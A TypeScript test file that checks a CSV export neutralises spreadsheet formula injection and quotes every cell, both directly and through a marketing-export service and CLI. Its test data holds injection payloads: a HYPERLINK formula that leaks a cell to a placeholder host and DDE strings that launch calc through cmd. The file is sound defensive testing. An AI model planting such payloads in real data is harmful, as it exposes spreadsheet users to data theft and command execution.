// The one CSV writer: a cell a spreadsheet would run as a formula is read as text instead
// (OWASP: prefix with '), and every cell is quoted so nothing inside a value can start a
// new cell or row. Then the same through the real service and the real CLI export.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { projectRoot } from '../../src/config.ts';
import { neutraliseCell, toCsv } from '../../src/http/csv.ts';
import { startTestServer, submitForm, TEST_SECRET, validFields, type TestServer } from '../support/server.ts';

const node = join(projectRoot, 'node_modules', '.bin', 'node');

/** RFC 4180 reader, strict enough to notice a writer that leaves a cell unquoted. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const row: string[] = [];
    for (;;) {
      assert.equal(text[i], '"', `cell at offset ${i} is not quoted`);
      let cell = '';
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
      row.push(cell);
      if (text[i] === ',') {
        i++;
        continue;
      }
      assert.equal(text[i], '\n', `unexpected ${JSON.stringify(text[i])} after a cell at offset ${i}`);
      i++;
      break;
    }
    rows.push(row);
  }
  return rows;
}

const hostile = [
  '=HYPERLINK("http://x/?"&A2,"click")',
  '=1+1',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1,2)',
  '  =1+1',
  ' \t@SUM(1,2)',
  '\u00A0+1',
  '\u3000-1',
  '\n=1+1',
];

describe('toCsv / neutraliseCell', () => {
  test('a cell that begins with = + - @ TAB CR NUL, their full-width forms, or whitespace and then one of them, gets a leading quote', () => {
    for (const cell of hostile) assert.equal(neutraliseCell(cell), `'${cell}`, JSON.stringify(cell));
  });

  test('ordinary text is left exactly as it is', () => {
    for (const cell of ['Ada Lovelace', 'O\'Brien & Sons', 'a=b', 'x+y', 'Jean-Luc', 'ada@example.com', '2026-11-29T21:00:00.000Z', 'web-form:demo', '  indented', '\'already quoted', 'Zoë 李', '']) {
      assert.equal(neutraliseCell(cell), cell, JSON.stringify(cell));
    }
    assert.equal(neutraliseCell(null), '');
    assert.equal(neutraliseCell(undefined), '');
    assert.equal(neutraliseCell(-5), '-5', 'a number cannot carry a formula');
    assert.equal(neutraliseCell(3.5), '3.5');
  });

  test('every cell, header and empty ones included, is quoted; separators, quotes and line breaks stay inside their cell', () => {
    const rows = [
      ['Ada', 'Analytical, Engines', ''],
      ['He said "hi"', 'line one\nline two', 'cr\r\nlf'],
      ['a";"b', '","=1+1', null],
      ...hostile.map((h) => [h, 'x', h]),
    ];
    const csv = toCsv(['name', 'company', 'note'], rows);
    assert.ok(csv.startsWith('"name","company","note"\n'));
    assert.ok(csv.includes('"Ada","Analytical, Engines",""\n'));
    assert.ok(csv.includes('"He said ""hi""",'));
    const parsed = parseCsv(csv);
    assert.equal(parsed.length, rows.length + 1);
    assert.deepEqual(parsed[0], ['name', 'company', 'note']);
    parsed.slice(1).forEach((cells, r) => assert.deepEqual(cells, rows[r].map(neutraliseCell)));
    for (const cells of parsed) for (const cell of cells) assert.ok(cell === '' || !/^[\s\u00A0\u3000]*[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell), `unsafe cell ${JSON.stringify(cell)}`);
  });

  test('a header is neutralised like any cell, and a row of the wrong width is refused', () => {
    assert.equal(toCsv(['=cmd'], []), '"\'=cmd"\n');
    assert.throws(() => toCsv(['a', 'b'], [['only one']]), /expected 2/);
  });
});

describe('marketing export through the real service and CLI', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer();
  });
  after(() => server.close());

  test('a visitor who opts in with a formula for a name or company is exported as text', async () => {
    const visitors = [
      { email: 'hyperlink@csv.example.com', name: '=HYPERLINK("http://x/?"&A2,"click")', company: '+cmd|\' /C calc\'!A0' },
      { email: 'minus@csv.example.com', name: '-2+3+cmd|\' /C calc\'!A0', company: '@SUM(1+9)*cmd|\' /C calc\'!A0' },
      { email: 'plain@csv.example.com', name: 'Grace Hopper', company: 'Navy, "Research"' },
    ];
    for (const v of visitors) {
      const res = await submitForm(server.url, 'demo', { ...validFields, ...v, marketing_opt_in: 'yes' });
      assert.equal(res.status, 303, `${v.email} was accepted`);
    }
    const env = { ...process.env, DATABASE_URL: server.database.url, SECRET_KEY: TEST_SECRET };
    const csv = execFileSync(node, ['src/main.ts', 'marketing', 'export'], { cwd: projectRoot, env, encoding: 'utf8' });
    assert.ok(csv.includes('"\'=HYPERLINK(""http://x/?""&A2,""click"")"'), csv);

    const [header, ...rows] = parseCsv(csv);
    assert.deepEqual(header, ['email', 'name', 'company', 'country', 'consented_at', 'notice_version', 'channel', 'wording']);
    const byEmail = new Map(rows.map((r) => [r[0], r]));
    assert.deepEqual([...byEmail.keys()].sort(), visitors.map((v) => v.email).sort());
    assert.equal(byEmail.get('hyperlink@csv.example.com')![1], '\'=HYPERLINK("http://x/?"&A2,"click")');
    assert.equal(byEmail.get('hyperlink@csv.example.com')![2], '\'+cmd|\' /C calc\'!A0');
    assert.equal(byEmail.get('minus@csv.example.com')![1], '\'-2+3+cmd|\' /C calc\'!A0');
    assert.equal(byEmail.get('minus@csv.example.com')![2], '\'@SUM(1+9)*cmd|\' /C calc\'!A0');
    assert.equal(byEmail.get('plain@csv.example.com')![1], 'Grace Hopper');
    assert.equal(byEmail.get('plain@csv.example.com')![2], 'Navy, "Research"');
    assert.match(byEmail.get('plain@csv.example.com')![4], /^\d{4}-\d\d-\d\dT/);
  });
});
